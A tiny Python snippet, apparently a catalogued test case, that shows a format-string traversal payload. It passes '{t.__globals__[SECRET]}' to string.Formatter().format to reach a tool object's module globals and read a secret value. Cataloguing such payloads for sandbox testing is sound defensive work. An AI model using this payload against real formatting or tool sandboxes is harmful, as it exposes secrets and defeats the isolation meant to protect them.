# string.Formatter().format: traversal through the pure-Python formatter.
import string
print(string.Formatter().format("{t.__globals__[SECRET]}", t=tool))
